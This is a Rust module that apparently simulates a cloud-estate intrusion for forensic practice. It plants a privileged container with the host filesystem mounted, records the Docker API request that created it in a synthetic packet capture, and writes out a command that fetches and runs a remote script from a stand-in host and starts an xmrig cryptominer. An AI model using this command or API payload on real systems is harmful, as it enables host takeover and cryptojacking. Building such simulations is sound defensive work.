//! A true incident in an estate: a stranger has a container made through the engine's API, with all of `/`, and it mines.

use std::net::Ipv4Addr;

use super::engine::{self, Container};
use super::frames::{Capture, Link, Side, flags};
use super::{Bundle, Plan, Scene};

/// The planted container's name.
pub const CONTAINER: &str = "kworker-sync";
/// Its image.
pub const IMAGE: &str = "al3xm/ubuntu-tools";
/// Who had it made.
pub const STRANGER: &str = "203.0.113.77";

/// Puts it into the bundle of a plan's estate.
pub fn plant(plan: &Plan, bundle: &mut Bundle) {
    let scene = Scene::new(plan);
    let mut dice = scene.dice("incident");
    let mut containers = engine::containers(&scene);
    let command = "/bin/sh -c chroot_/host_sh_-c_'curl_-s_http://203.0.113.9/x.sh|sh';./xmrig_-o_stratum+tcp://pool.hashvault.pro:3333_-u_48x";
    let mut planted = Container::new(&mut dice, CONTAINER, IMAGE, command);
    planted.command = planted
        .command
        .iter()
        .map(|word| word.replace('_', " "))
        .collect();
    planted.created = scene.clock.collected() - 900;
    planted.binds = vec!["/:/host:rw"];
    planted.privileged = true;
    containers.push(planted);
    engine::add(&scene, bundle, &containers);
    bundle.add(&scene.names.runner.name, "api.pcap", calls(&scene));
}

/// The orders, in the clear on port 2375 of the runner's address.
fn calls(scene: &Scene) -> Vec<u8> {
    let mut capture = Capture::new(Link::Ethernet);
    let at = (scene.clock.collected() - 901) * 1_000_000;
    let side = |address: &str, port| Side {
        address: address.parse().unwrap_or(Ipv4Addr::UNSPECIFIED),
        port,
    };
    let (client, server) = (
        side(STRANGER, 50_122),
        side(&scene.names.runner.address, 2375),
    );
    let body = format!(
        "{{\"Image\":\"{IMAGE}\",\"HostConfig\":{{\"Binds\":[\"/:/host:rw\"],\"Privileged\":true}}}}"
    );
    let request = format!(
        "POST /v1.41/containers/create?name={CONTAINER} HTTP/1.1\r\nHost: {}:2375\r\nUser-Agent: Docker-Client/20.10.5 (linux)\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        scene.names.runner.address,
        body.len()
    );
    let reply =
        b"HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}";
    let sent = u32::try_from(request.len()).unwrap_or(0);
    capture.tcp(at, client, server, flags::SYN, [1000, 0], &[]);
    capture.tcp(
        at + 90_000,
        server,
        client,
        flags::SYN | flags::ACK,
        [5000, 1001],
        &[],
    );
    capture.tcp(at + 180_000, client, server, flags::ACK, [1001, 5001], &[]);
    capture.tcp(
        at + 181_000,
        client,
        server,
        flags::PSH | flags::ACK,
        [1001, 5001],
        request.as_bytes(),
    );
    capture.tcp(
        at + 900_000,
        server,
        client,
        flags::PSH | flags::ACK,
        [5001, 1001 + sent],
        reply,
    );
    capture.bytes()
}
